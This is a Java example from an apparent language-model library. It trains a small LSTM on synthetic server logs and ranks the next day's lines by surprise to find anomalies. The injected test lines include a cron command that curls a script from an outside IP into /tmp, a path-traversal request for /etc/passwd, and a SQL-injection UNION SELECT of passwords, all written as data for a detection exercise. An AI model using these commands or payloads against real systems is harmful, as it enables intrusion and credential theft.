package io.refrain.examples;

import io.refrain.data.Epoch;
import io.refrain.data.SequentialPartition;
import io.refrain.data.TokenBatch;
import io.refrain.evaluate.LineScore;
import io.refrain.evaluate.LineScorer;
import io.refrain.kernel.ThreadTeam;
import io.refrain.model.CellKind;
import io.refrain.model.LanguageModel;
import io.refrain.model.LanguageModelConfig;
import io.refrain.optim.Adam;
import io.refrain.optim.GradientNorm;
import io.refrain.optim.Optimizer;
import io.refrain.text.Tokenizer;
import io.refrain.text.VerbatimTokenizer;
import io.refrain.train.TruncatedBptt;
import java.time.LocalDateTime;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.function.ToDoubleFunction;

/**
 * Finds the strange lines of a log: a small model learns what a day's lines look like, character by
 * character, and the lines of the next day that it expects least come first.
 *
 * <p>Nobody tells it what is strange. Times, ports and numbers of processes are never the same, so
 * that a rule for what was seen before would find every line new; the model learns where a digit
 * may stand, and is in little doubt about the rest. A line is strange as a whole, or by a single
 * character: that it ends where it should go on is one surprise, which a mean over the line hides.
 *
 * <p>The log is made here, by chance from a seed. Of a log of yours, {@code refrain train} and
 * {@code refrain score --file} do the same without a program. {@code ./refrain --version} builds
 * the library; then, from the project's folder,
 *
 * <pre>
 *   java --add-modules jdk.incubator.vector -cp "refrain-cli/target/lib/*" \
 *       examples/src/main/java/io/refrain/examples/LogAnomalies.java
 * </pre>
 */
public final class LogAnomalies {
  private static final int LINES = 2_000; // a day
  private static final int HIDDEN = 64;
  private static final int BATCH = 32;
  private static final int STEPS = 50; // as far back as a gradient goes
  private static final int EPOCHS = 3;
  private static final double LEARNING_RATE = 0.01; // at first; it falls to 0

  private LogAnomalies() {}

  /** Runs the example; needs no arguments. */
  public static void main(String[] arguments) {
    SplittableRandom random = new SplittableRandom(1);
    List<String> usual = day(LocalDateTime.of(2026, 3, 14, 0, 0), random);
    List<String> next = day(LocalDateTime.of(2026, 3, 15, 0, 0), random);
    Set<String> strange = inject(next, random);

    String text = String.join("\n", usual) + "\n"; // with line ends, which are tokens
    Tokenizer tokenizer = VerbatimTokenizer.train(text);
    LanguageModel model =
        new LanguageModel(
            new LanguageModelConfig(tokenizer.size(), 0, CellKind.LAYER_NORM_LSTM, HIDDEN, 1),
            random);
    try (ThreadTeam team =
        new ThreadTeam(Math.min(2, Runtime.getRuntime().availableProcessors()))) {
      train(model, tokenizer.encode(text), team, random);
      List<LineScore> scores = new LineScorer(model, tokenizer, team).score(next);
      print(ranked(scores, LogAnomalies::mostBits).subList(0, strange.size() + 1), strange);
      System.out.println("area under the ROC curve,");
      tell(
          "by bits per character",
          ranked(scores, line -> line.score().bitsPerCharacter()),
          strange);
      tell("by the character expected least", ranked(scores, LogAnomalies::mostBits), strange);
    }
  }

  /** The bits of the character that was expected least: a single slip shows there. */
  private static double mostBits(LineScore line) {
    return -line.leastLikely().orElseThrow().logProbability() / Math.log(2);
  }

  private static List<LineScore> ranked(
      List<LineScore> scores, ToDoubleFunction<LineScore> surprise) {
    return scores.stream().sorted(Comparator.comparingDouble(surprise).reversed()).toList();
  }

  /** Rows of a batch go on where the same rows of the batch before ended, as in a long text. */
  private static void train(
      LanguageModel model, int[] tokens, ThreadTeam team, SplittableRandom random) {
    SequentialPartition partition = new SequentialPartition(BATCH, STEPS);
    TokenBatch batch = new TokenBatch(STEPS, BATCH);
    TruncatedBptt bptt = new TruncatedBptt(model, STEPS, BATCH, team);
    Optimizer optimizer = new Adam(model.parameters(), Adam.Options.adam());
    for (int number = 0; number < EPOCHS; number++) {
      Epoch epoch = partition.epoch(tokens, random);
      bptt.reset();
      double nats = 0;
      for (int i = 0; i < epoch.batches(); i++) {
        epoch.fill(i, batch);
        optimizer.clearGradients();
        nats += bptt.backward(batch, random);
        bptt.carry();
        double done = (number + (double) i / epoch.batches()) / EPOCHS;
        double norm = GradientNorm.of(team, model.parameters().values());
        optimizer.step(team, LEARNING_RATE * (1 - done), GradientNorm.clip(norm, 1));
      }
      double bits = nats / epoch.batches() / Math.log(2);
      System.out.printf(Locale.ROOT, "epoch %d: %.3f bits per character%n", number + 1, bits);
    }
  }

  /** The lines, the injected ones with a star, and below each the character expected least. */
  private static void print(List<LineScore> lines, Set<String> strange) {
    System.out.println("bits of the character expected least (^), * injected");
    for (LineScore line : lines) {
      String star = strange.contains(line.text()) ? "*" : " ";
      System.out.printf(Locale.ROOT, "%s %5.1f  %s%n", star, mostBits(line), line.text());
      System.out.println(" ".repeat(9 + line.leastLikely().orElseThrow().at()) + "^");
    }
  }

  /** How often a strange line is ranked before one that is not: 1 is always, 0.5 is chance. */
  private static void tell(String by, List<LineScore> ranked, Set<String> strange) {
    long strangeSoFar = 0;
    long inOrder = 0;
    for (LineScore line : ranked) {
      if (strange.contains(line.text())) {
        strangeSoFar++;
      } else {
        inOrder += strangeSoFar;
      }
    }
    double area = inOrder / (strangeSoFar * (double) (ranked.size() - strangeSoFar));
    System.out.printf(Locale.ROOT, "  %s: %.4f%n", by, area);
  }

  private static List<String> day(LocalDateTime begin, SplittableRandom random) {
    List<String> lines = new ArrayList<>();
    LocalDateTime time = begin;
    for (int i = 0; i < LINES; i++) {
      time = time.plusSeconds(random.nextInt(1, 85));
      lines.add(time.format(DateTimeFormatter.ISO_LOCAL_DATE_TIME) + " " + usualEvent(random));
    }
    return lines;
  }

  private static String usualEvent(SplittableRandom random) {
    String user = one(random, "alice", "bob", "carol", "deploy");
    String address = "10.0.%d.%d".formatted(random.nextInt(8), random.nextInt(1, 255));
    int process = random.nextInt(300, 32_768);
    return switch (random.nextInt(8)) {
      case 0 ->
          "sshd[%d]: Accepted publickey for %s from %s port %d ssh2"
              .formatted(process, user, address, random.nextInt(32_768, 61_000));
      case 1 -> "sshd[%d]: session closed for user %s".formatted(process, user);
      case 2 ->
          "cron[%d]: (root) CMD (%s)"
              .formatted(process, one(random, "run-parts /etc/cron.hourly", "sa1 1 1"));
      case 3 ->
          "postgres[%d]: checkpoint complete: wrote %d buffers, %d.%03d s"
              .formatted(process, random.nextInt(900), random.nextInt(9), random.nextInt(1000));
      case 4 -> "systemd[1]: Started Session %d of user %s.".formatted(process, user);
      default ->
          "nginx[%d]: %s %s %d %d bytes %d ms"
              .formatted(
                  process,
                  address,
                  one(random, "GET /", "GET /cart", "GET /item/" + process, "POST /login"),
                  random.nextInt(20) == 0 ? 304 : 200,
                  random.nextInt(200, 9_000),
                  random.nextInt(1, 90));
    };
  }

  /** Puts strange lines among others, which they replace, and tells which they are. */
  private static Set<String> inject(List<String> lines, SplittableRandom random) {
    List<String> events =
        List.of(
            "sshd[2217]: Failed password for invalid user admin from 203.0.113.9 port 40022 ssh2",
            "sshd[911]: error: maximum authentication attempts exceeded for root",
            "nginx[3120]: 10.0.4.77 GET /../../etc/passwd 400 166 bytes 1 ms",
            "nginx[3120]: 10.0.4.77 GET /item/1+UNION+SELECT+password+FROM+users 500 93 bytes 2 ms",
            "nginx[771]: worker process 30114 exited on signal 11",
            "cron[4471]: (www-data) CMD (curl -s http://203.0.113.66/x.sh -o /tmp/.x)",
            "postgres[650]: FATAL: could not write block 17 of base/16384: No space left on device",
            "kernel: Out of memory: Killed process 18221 (postgres)",
            "kernel: EXT4-fs error (device sda1): bad block bitmap checksum",
            "systemd[1]: postgresql.service: Main process exited, code=killed, status=9/KILL",
            "sshd[3001]: Accepted password for root from 198.51.100.4 port 50110 ssh2",
            "postgres[1733]: checkpoint complete: wr", // cut off
            "nginx[2894]: 10.0.1.30 \u00e3\u00af\u00bf /cart 200 3441 bytes 12 ms");
    Set<String> strange = new HashSet<>();
    int part = lines.size() / events.size();
    for (int i = 0; i < events.size(); i++) {
      int at = i * part + random.nextInt(part);
      String time = lines.get(at).substring(0, lines.get(at).indexOf(' '));
      lines.set(at, time + " " + events.get(i));
      strange.add(lines.get(at));
    }
    return strange;
  }

  private static String one(SplittableRandom random, String... choices) {
    return choices[random.nextInt(choices.length)];
  }
}
